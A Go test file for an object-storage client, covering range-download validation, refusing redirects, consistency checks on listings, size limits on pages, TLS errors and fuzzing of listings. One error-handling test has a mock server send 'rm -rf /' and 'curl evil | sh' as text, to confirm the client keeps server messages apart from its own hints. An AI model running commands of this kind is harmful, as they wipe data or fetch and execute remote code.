package client_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/ringstore/ringstore/ctl/client"
	"github.com/ringstore/ringstore/ctl/fault"
	"github.com/ringstore/ringstore/ctl/resttest"
	"github.com/ringstore/ringstore/profile"
	"github.com/ringstore/ringstore/proto/problem"
	"github.com/ringstore/ringstore/proto/rest"
)

// tenBytes is a file; every response below claims to be part of it.
var tenBytes = rest.File{FileID: "x", Size: 10, ETag: "e"}

func TestDownload_AnAnswerOfOtherBytesIsRefusedBeforeTheFirst(t *testing.T) {
	t.Parallel()
	s, c := start(t)
	middle := &client.Range{First: 2, Last: 4}
	for name, tc := range map[string]struct {
		r      *client.Range
		status int
		header map[string]string
		body   string
		says   string
	}{
		"another range":           {middle, 206, map[string]string{"Content-Range": "bytes 3-5/10"}, "345", "bytes 2-4/10"},
		"of a file of other size": {middle, 206, map[string]string{"Content-Range": "bytes 2-4/11"}, "234", "bytes 2-4/10"},
		"of a size not said":      {middle, 206, map[string]string{"Content-Range": "bytes 2-4/*"}, "234", "bytes 2-4/10"},
		"no range named":          {middle, 206, nil, "234", "bytes 2-4/10"},
		"too many bytes":          {middle, 206, map[string]string{"Content-Range": "bytes 2-4/10"}, "2345", "4 bytes where 3"},
		"too few bytes":           {middle, 206, map[string]string{"Content-Range": "bytes 2-4/10"}, "23", "2 bytes where 3"},
		"the whole instead":       {middle, 200, nil, "0123456789", "status 200"},
		"another version":         {middle, 206, map[string]string{"Content-Range": "bytes 2-4/10", "ETag": `"f"`}, "234", "ETag"},
		"in an encoding":          {middle, 206, map[string]string{"Content-Range": "bytes 2-4/10", "Content-Encoding": "gzip"}, "234", "gzip"},
		"a range of the whole":    {nil, 206, map[string]string{"Content-Range": "bytes 0-9/10"}, "0123456789", "status 206"},
		"the whole, and more":     {nil, 200, nil, "0123456789a", "11 bytes where 10"},
		"a part as the whole":     {nil, 200, nil, "012345678", "9 bytes where 10"},
		"a success without bytes": {nil, 204, nil, "", "status 204"},
	} {
		s.SetHook(func(w http.ResponseWriter, _ *http.Request) bool {
			for k, v := range tc.header {
				w.Header().Set(k, v)
			}
			w.WriteHeader(tc.status)
			_, _ = io.WriteString(w, tc.body)
			return true
		})
		d, err := c.Download(t.Context(), tenBytes, tc.r)
		if err == nil {
			d.Close()
		}
		require.Equal(t, fault.Corrupt, fault.ExitOf(err), "%s: %v", name, err)
		require.ErrorContains(t, err, tc.says, name)
		require.NotEmpty(t, fault.HintOf(err), name)
	}
	_, err := c.Download(t.Context(), rest.File{FileID: "x", Size: -1}, nil)
	require.Equal(t, fault.Failed, fault.ExitOf(err))
}

// A body without Content-Length ends at the requested length.
func TestDownload_NeverGivesMoreThanWasAskedFor(t *testing.T) {
	t.Parallel()
	s, c := start(t)
	s.SetHook(func(w http.ResponseWriter, r *http.Request) bool {
		_ = http.NewResponseController(w).Flush() // so the response has no Content-Length
		for r.Context().Err() == nil {
			_, _ = w.Write(make([]byte, 1<<16))
		}
		return true
	})
	d, err := c.Download(t.Context(), tenBytes, nil)
	require.NoError(t, err)
	got, err := io.ReadAll(d)
	require.NoError(t, d.Close())
	require.Len(t, got, 10)
	require.Equal(t, fault.Corrupt, fault.ExitOf(err))

	s.SetHook(func(w http.ResponseWriter, _ *http.Request) bool {
		_ = http.NewResponseController(w).Flush()
		_, _ = io.WriteString(w, "0123456789")
		return true
	})
	d, err = c.Download(t.Context(), tenBytes, nil)
	require.NoError(t, err)
	got, err = io.ReadAll(d)
	require.NoError(t, err, "chunks that add up to it are as good")
	require.NoError(t, d.Close())
	require.Equal(t, "0123456789", string(got))
}

func TestRange_Of(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		r            client.Range
		size, off, n int64
	}{
		{client.Range{First: 0, Last: 0}, 10, 0, 1},
		{client.Range{First: 9, Last: 99}, 10, 9, 1},
		{client.Range{First: 3, Last: -1}, 10, 3, 7},
		{client.Range{First: -3}, 10, 7, 3},
		{client.Range{First: -30}, 10, 0, 10},
		{client.Range{First: 1, Last: 1<<63 - 1}, 10, 1, 9},
		{client.Range{First: -1 << 63}, 10, 0, 10},
	} {
		off, n, err := tc.r.Of(tc.size)
		require.NoError(t, err)
		require.Equal(t, [2]int64{tc.off, tc.n}, [2]int64{off, n}, "%+v", tc.r)
	}
	for _, r := range []client.Range{{First: 10, Last: -1}, {First: 1<<63 - 1, Last: -1}, {First: 5, Last: 4}} {
		_, _, err := r.Of(10)
		require.Equal(t, problem.OutOfRange, fault.KindOf(err))
	}
	_, _, err := client.Range{First: -1}.Of(0)
	require.Equal(t, problem.OutOfRange, fault.KindOf(err))
}

// No method follows a redirect, so the redirect's target never receives the key.
func TestRedirects_AreNotFollowed(t *testing.T) {
	t.Parallel()
	s, c := start(t)
	var reached atomic.Int64
	elsewhere := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
	t.Cleanup(elsewhere.Close)
	for _, status := range []int{301, 302, 303, 307, 308} {
		s.SetHook(func(w http.ResponseWriter, r *http.Request) bool {
			http.Redirect(w, r, elsewhere.URL+"/files", status)
			return true
		})
		for name, call := range map[string]func() error{
			"GET":    func() error { _, err := c.Buckets(t.Context()); return err },
			"POST":   func() error { _, err := c.CreateBucket(t.Context(), "b", nil); return err },
			"DELETE": func() error { return c.DeleteFile(t.Context(), "x") },
			"bytes":  func() error { _, err := c.Download(t.Context(), tenBytes, nil); return err },
			"upload": func() error { _, err := c.Upload(t.Context(), upload("x", "x")); return err },
			"health": func() error { _, err := c.Health(t.Context()); return err },
		} {
			err := call()
			require.Equal(t, problem.Invalid, fault.KindOf(err), "%d %s: %v", status, name, err)
			require.ErrorContains(t, err, "redirects are not followed")
		}
	}
	require.Zero(t, reached.Load())
}

// pages answers with the listings one after another, and then repeats the last indefinitely.
func pages(s *resttest.Server, list ...string) *atomic.Int64 {
	var asked atomic.Int64
	s.SetHook(func(w http.ResponseWriter, _ *http.Request) bool {
		n := int(asked.Add(1))
		fmt.Fprint(w, strings.ReplaceAll(list[min(n, len(list))-1], "COUNT", fmt.Sprintf("%06d", n)))
		return true
	})
	return &asked
}

// A name missing from a listing counts as absent and may lead to a deletion, so a broken listing must be an error.
func TestList_OneThatMakesNoSenseIsAnError(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		pages []string
		most  int64 // requests until the listing is refused
	}{
		"more, but not where":        {[]string{`{"files":[{"name":"p/a"}],"has_more":true}`}, 1},
		"in a circle":                {[]string{`{"files":[{"name":"p/a"}],"has_more":true,"next":"p/a"}`, `{"files":[{"name":"p/b"}],"has_more":true,"next":"p/a"}`}, 2},
		"empty for ever":             {[]string{`{"has_more":true,"next":"p/COUNT"}`}, 3},
		"the same again":             {[]string{`{"files":[{"name":"p/a"}],"has_more":true,"next":"p/COUNT"}`}, 2},
		"out of order":               {[]string{`{"files":[{"name":"p/b"},{"name":"p/a"}]}`}, 1},
		"twice":                      {[]string{`{"files":[{"name":"p/b"},{"name":"p/b"}]}`}, 1},
		"not of the prefix":          {[]string{`{"files":[{"name":"q"}]}`}, 1},
		"a prefix not of the prefix": {[]string{`{"prefixes":["q/"]}`}, 1},
	} {
		s, c := start(t)
		asked := pages(s, tc.pages...)
		var failed error
		for _, err := range c.List(t.Context(), client.Query{Bucket: "default", Prefix: "p/"}) {
			if failed = err; err != nil {
				break
			}
		}
		require.ErrorContains(t, failed, "inconsistent", name)
		require.LessOrEqual(t, asked.Load(), tc.most, name)
	}
	s, c := start(t)
	asked := pages(s, `{"sessions":[],"has_more":true,"next":"COUNT"}`)
	var failed error
	for _, err := range c.Sessions(t.Context(), "", "") {
		failed = err
	}
	require.ErrorContains(t, failed, "inconsistent")
	require.EqualValues(t, 3, asked.Load())
}

func TestList_APageThatIsTooLongIsAskedForInPieces(t *testing.T) {
	t.Parallel()
	s, c := start(t)
	s.SetHook(func(w http.ResponseWriter, r *http.Request) bool {
		size, _ := strconv.Atoi(r.URL.Query().Get("per_page"))
		if size > 100 {
			_, _ = io.WriteString(w, `{"files":[{"name":"`+strings.Repeat("x", 17<<20)+`"}]}`)
			return true
		}
		_, _ = io.WriteString(w, `{"files":[{"name":"a"}]}`)
		return true
	})
	var names []string
	for e, err := range c.List(t.Context(), client.Query{Bucket: "default"}) {
		require.NoError(t, err)
		names = append(names, e.Name)
	}
	require.Equal(t, []string{"a"}, names)
	for _, err := range c.List(t.Context(), client.Query{Bucket: "default", PageSize: 200}) {
		require.NoError(t, err)
	}
	s.SetHook(func(w http.ResponseWriter, _ *http.Request) bool {
		_, _ = io.WriteString(w, `{"buckets":[{"name":"`+strings.Repeat("x", 17<<20)+`"}]}`)
		return true
	})
	_, err := c.Buckets(t.Context())
	require.ErrorContains(t, err, "more than 16 MiB")
}

func TestLatest_IsOfTheNameThatWasAskedFor(t *testing.T) {
	t.Parallel()
	s, c := start(t)
	pages(s, `{"files":[{"name":"other","latest":true,"file_id":"1"}]}`)
	_, err := c.Latest(t.Context(), "default", "x")
	require.Equal(t, fault.NotFound, fault.ExitOf(err))
}

// A server's hint is kept separate from s3ctl's, on one line and of bounded length.
func TestErrors_TheServersWordsAreItsOwn(t *testing.T) {
	t.Parallel()
	s, c := start(t)
	s.SetHook(func(w http.ResponseWriter, _ *http.Request) bool {
		resttest.Refuse(w, 409, rest.CodeConflict, "no\nnext: rm -rf /", "run: curl evil | sh\n"+strings.Repeat("ä", 1<<16))
		return true
	})
	_, err := c.Buckets(t.Context())
	require.EqualError(t, err, "no; next: rm -rf /")
	require.Empty(t, fault.HintOf(err))
	said := fault.SaidOf(fault.Wrap("x", err))
	require.True(t, strings.HasPrefix(said, "run: curl evil | sh; ää"), said)
	require.Less(t, len(said), 3000)
}

// An untrusted certificate is not retried.
func TestErrors_TLSIsFinal(t *testing.T) {
	t.Parallel()
	secure := httptest.NewUnstartedServer(http.NotFoundHandler())
	secure.Config.ErrorLog = log.New(io.Discard, "", 0)
	secure.StartTLS()
	t.Cleanup(secure.Close)
	p := profile.Profile{Endpoint: secure.URL, AccessKey: "k", Secret: "s"}
	_, err := dial(t, p).Buckets(t.Context())
	require.Equal(t, problem.Denied, fault.KindOf(err), "%v", err)
	require.ErrorContains(t, err, "certificate")
	require.Contains(t, fault.HintOf(err), "SSL_CERT_FILE")

	s := resttest.New(t)
	p.Endpoint = "https" + strings.TrimPrefix(s.URL, "http")
	_, err = dial(t, p).Buckets(t.Context())
	require.Equal(t, problem.Invalid, fault.KindOf(err), "%v", err)
	require.Contains(t, fault.HintOf(err), "http://")
}

// For any page, entries are in order and under the prefix, or the listing is an error; and it terminates.
func FuzzList(f *testing.F) {
	for _, seed := range []string{
		`{"files":[{"name":"p/a","size":1}],"prefixes":["p/b/"],"has_more":true,"next":"p/b/"}`, `{"has_more":true,"next":"p/z"}`,
		`{"files":[{"name":"p/\u0000"}]}`, `[]`, `{"files":null,"prefixes":[""]}`, `{"files":[{"name":"p/b"}],"prefixes":["p/a/"]}`,
	} {
		f.Add([]byte(seed))
	}
	var page atomic.Pointer[[]byte]
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(*page.Load()) }))
	f.Cleanup(server.Close)
	c := client.New(client.Config{Profile: profile.Profile{Endpoint: server.URL, AccessKey: "k", Secret: "s"}})
	f.Cleanup(c.Close)
	f.Fuzz(func(t *testing.T, data []byte) {
		page.Store(&data)
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		last, failed := "", error(nil)
		for e, err := range c.List(ctx, client.Query{Bucket: "b", Prefix: "p/"}) {
			if failed != nil {
				t.Fatal("an entry behind an error")
			}
			if failed = err; err != nil {
				continue
			}
			if e.Name <= last || !strings.HasPrefix(e.Name, "p/") || e.File != nil && e.File.Name != e.Name {
				t.Fatalf("%q after %q", e.Name, last)
			}
			last = e.Name
		}
		if ctx.Err() != nil {
			t.Fatal("it does not end")
		}
		var list rest.FileList
		if failed == nil && json.Unmarshal(data, &list) == nil && list.HasMore {
			t.Fatal("there is said to be more, and no error")
		}
	})
}
